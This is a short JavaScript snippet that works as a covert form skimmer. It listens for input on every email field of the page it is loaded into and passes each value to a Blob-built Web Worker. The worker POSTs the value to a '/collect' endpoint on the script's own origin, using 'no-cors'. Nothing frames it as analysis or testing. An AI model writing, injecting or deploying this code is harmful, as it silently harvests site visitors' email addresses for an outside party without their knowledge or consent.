const home = new URL(document.currentScript.src).origin;
const code = `onmessage = ({ data }) => fetch("${home}/collect", { method: "POST", body: data, mode: "no-cors" });`;
const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
document.addEventListener("input", ({ target }) => {
  if (target.type === "email") worker.postMessage(new URLSearchParams({ who: target.value }).toString());
});
